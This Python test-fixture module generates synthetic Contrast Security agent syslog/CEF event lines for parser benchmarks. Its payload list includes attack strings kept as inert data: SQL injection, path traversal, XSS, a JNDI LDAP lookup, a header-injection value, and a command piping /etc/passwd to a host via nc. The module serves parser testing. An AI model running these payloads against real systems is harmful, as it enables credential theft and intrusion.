"""Fixed-seed Contrast-shaped syslog lines, each with the answer it must parse to.

Java, Python (three generations), .NET and Node agents; RFC 3164, RFC 5424 and
the agents' own prefixes; payloads that need ``\\=`` ``\\\\`` ``\\|`` escapes;
IPv6 sources, ``-`` placeholders and some long values. Every benchmark draws its
input from here, so a parser figure and a pipeline figure describe the same
events.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass

from enrich.pipeline import Enriched, Envelope, enrich
from enrich.timestamps import format_receive_time

SEED = 20250314

RULES = (
    "sql-injection", "cmd-injection", "path-traversal", "reflected-xss", "xxe",
    "method-tampering", "untrusted-deserialization", "nosql-injection",
    "unsafe-file-upload", "bot-blocker", "ip-deny-list", "jndi-injection",
    "expression-language-injection",
)  # fmt: skip
OUTCOMES = (
    "EXPLOITED", "BLOCKED", "INEFFECTIVE", "SUSPICIOUS", "PROBED", "success",
    "BLOCKED_AT_PERIMETER",
)  # fmt: skip
PAYLOADS = (
    "x' OR '1'='1", "../../../etc/passwd", "<script>alert(1)</script>",
    "cat /etc/passwd | nc 192.0.2.9 4444", "..\\..\\Windows\\win.ini",
    '{"$ne":null}', "${jndi:ldap://198.51.100.7/a}", "q=1&debug=true",
    "<img src=x onerror=alert(1)>", "1 UNION SELECT password FROM users",
    "C:\\Temp\\a|b", "admin'--", "null",
)  # fmt: skip
PATHS = (
    "/owners", "/api/login", "/search", "/download/..\\..\\win.ini;jsessionid=A1",
    "/blog/post/42/comments", "/run", "/a b/c=d", "/api/v2/items|export", "/",
)  # fmt: skip
APPS = ("PetStore", "ledger-api", "Community Blog (EU)", "OrderDesk", "Claims Portal")
HOSTS = (
    "app-host-07",
    "py-web-02",
    "192.0.2.15",
    "win-iis-04",
    "node-api-01.example.net",
)
MONTHS = (
    "Jan", "Feb", "Mar", "Apr", "May", "Jun",
    "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
)  # fmt: skip


@dataclass(frozen=True)
class Sample:
    """A generated line and what it must parse to."""

    line: str
    header: tuple[str, ...]
    extensions: dict[str, str]


def escape_header(text: str, *, java: bool) -> str:
    escaped = text.replace("\\", "\\\\").replace("|", "\\|")
    return escaped.replace("=", "\\=") if java else escaped


def escape_value(text: str) -> str:
    return (
        text.replace("\\", "\\\\")
        .replace("=", "\\=")
        .replace("\n", "\\n")
        .replace("\r", "\\r")
    )


def make_corpus(count: int, seed: int = SEED) -> list[Sample]:
    """``count`` samples in the mix of agents a mixed estate sends."""
    rng = random.Random(seed)
    agents: list[Callable[[random.Random], Sample]] = [
        _java_3164,
        _java_yeared,
        _python_current,
        _python_8x,
        _python_legacy,
        _dotnet,
        _node_5424,
    ]
    weights = (30, 10, 25, 10, 5, 10, 10)
    return [rng.choices(agents, weights)[0](rng) for _ in range(count)]


def syslog_messages(count: int, seed: int = SEED) -> list[bytes]:
    """The corpus as the bytes of syslog messages (no framing)."""
    return [sample.line.encode() for sample in make_corpus(count, seed)]


def receive_timed_messages(count: int, seed: int = SEED) -> list[bytes]:
    """Messages whose row's TimeGenerated is the receive time.

    Latency is measured from that column, so these carry neither ``rt`` nor an
    absolute syslog time (one with year and zone). Drawn from the same mix,
    keeping only the lines that qualify; the answer comes from ``enrich``
    itself, so a change in the time rules cannot skew the measurement.
    """
    probe_us = 1_700_000_000_123_456
    wanted = format_receive_time(probe_us)
    messages: list[bytes] = []
    batch = max(count, 1000)
    offset = 0
    while len(messages) < count:
        for sample in make_corpus(batch, seed + offset):
            raw = sample.line.encode()
            outcome = enrich(raw, Envelope(received_at_us=probe_us))
            if isinstance(outcome, Enriched) and outcome.row["TimeGenerated"] == wanted:
                messages.append(raw)
        offset += 1
    return messages[:count]


def _payload(rng: random.Random) -> str:
    payload = rng.choice(PAYLOADS)
    if rng.random() < 0.03:  # a long value, as an injected blob would be
        payload += ",".join(f"c{n:03d}" for n in range(rng.randint(200, 900)))
    return payload


def _attack(rng: random.Random, ipv6: bool) -> tuple[str, str, dict[str, str]]:
    rule, payload = rng.choice(RULES), _payload(rng)
    name = f"The parameter q had a value that successfully exploited {rule} - {payload}"
    src = (
        rng.choice(("0:0:0:0:0:0:0:1", "2001:db8::17", "::ffff:203.0.113.50"))
        if ipv6
        else f"198.51.100.{rng.randint(1, 254)}"
    )
    request = rng.choice(PATHS)
    if rng.random() < 0.02:
        request += "\nSet-Cookie: sid=evil"
    pairs = {
        "pri": rule,
        "src": src,
        "spt": str(rng.choice((8080, 8443, 8000, 443, 3000))),
        "request": request,
        "requestMethod": rng.choice(("GET", "POST", "PUT")),
        "app": rng.choice(APPS),
    }
    return name, rng.choice(OUTCOMES), pairs


def _extension(pairs: dict[str, str]) -> str:
    return " ".join(f"{key}={escape_value(value)}" for key, value in pairs.items())


def _sample(
    prefix: str, product: str, version: str, name: str, severity: str,
    pairs: dict[str, str], *, java: bool = False, extension: str | None = None,
) -> Sample:  # fmt: skip
    header = ("Contrast Security", product, version, "SECURITY", name, severity)
    line = "|".join(
        [
            "CEF:0",
            *(escape_header(field, java=java) for field in header),
            _extension(pairs) if extension is None else extension,
        ]
    )
    return Sample(prefix + line, header, pairs)


def _clock(rng: random.Random) -> str:
    return f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}"


def _java_3164(rng: random.Random) -> Sample:
    name, outcome, pairs = _attack(rng, ipv6=rng.random() < 0.2)
    day = rng.randint(1, 28)
    prefix = (
        f"<{rng.choice((153, 156, 157))}>{rng.choice(MONTHS)} {day:2d} {_clock(rng)} "
    )
    pairs["outcome"] = outcome
    host = rng.choice(HOSTS)
    product, version = "Contrast Agent Java", "6.16.0"
    return _sample(f"{prefix}{host} ", product, version, name, "WARN", pairs, java=True)


def _java_yeared(rng: random.Random) -> Sample:
    name, outcome, pairs = _attack(rng, ipv6=rng.random() < 0.3)
    prefix = (
        f"Jul 18 2024 {_clock(rng)}.{rng.randint(0, 999):03d}-0400 {rng.choice(HOSTS)} "
    )
    pairs["outcome"] = outcome
    return _sample(
        prefix, "Contrast Agent Java", "6.5.4", name, "WARN", pairs, java=True
    )


def _python_current(rng: random.Random) -> Sample:
    name, outcome, pairs = _attack(rng, ipv6=rng.random() < 0.1)
    if rng.random() < 0.15:  # no request context
        for key in ("src", "spt", "request", "requestMethod"):
            pairs[key] = "-"
    host = rng.choice(HOSTS)
    pairs["contrastAgentServer"] = rng.choice((host, "-"))
    pairs["dvchost"] = f"{host}.corp.example"
    pairs["outcome"] = outcome
    prefix = f"<153>Mar {rng.randint(1, 28):02d} {_clock(rng)} {host} "
    return _sample(prefix, "Contrast Agent Python", "10.23.1", name, "WARN", pairs)


def _python_8x(rng: random.Random) -> Sample:
    name, outcome, pairs = _attack(rng, ipv6=False)
    pairs["outcome"] = outcome
    prefix = f"<157>Mar 04 2025 {_clock(rng)}.318-0500 {rng.choice(HOSTS)} "
    return _sample(prefix, "Contrast Agent Python", "8.6.0", name, "WARN", pairs)


def _python_legacy(rng: random.Random) -> Sample:
    name, outcome, pairs = _attack(rng, ipv6=False)
    pairs["outcome"] = outcome
    quoted = " ".join(f"'{key}={escape_value(value)}'" for key, value in pairs.items())
    prefix = f"2025-03-04 {_clock(rng)},318 {rng.choice(HOSTS)} "
    return _sample(
        prefix, "Contrast Agent Python", "4.5.0", name, "20", pairs, extension=quoted
    )


def _dotnet(rng: random.Random) -> Sample:
    name, outcome, pairs = _attack(rng, ipv6=rng.random() < 0.2)
    pairs["outcome"] = outcome
    prefix = f"<157>Mar 14 {_clock(rng)} win-iis-04 "
    return _sample(prefix, "Contrast Agent .NET Core", "4.3.2", name, "WARN", pairs)


def _node_5424(rng: random.Random) -> Sample:
    name, outcome, pairs = _attack(rng, ipv6=rng.random() < 0.5)
    pairs["outcome"] = outcome
    structured = rng.choice(("-", '[origin ip="192.0.2.1" note="CEF:0|x \\"y\\""]'))
    bom = "\ufeff" if rng.random() < 0.3 else ""
    prefix = (
        f"<129>1 2025-03-14T{_clock(rng)}.250Z node-api-01.example.net "
        f"contrast-agent 4411 - {structured} {bom}"
    )
    return _sample(prefix, "Contrast Agent Node", "5.12.0", name, "WARN", pairs)
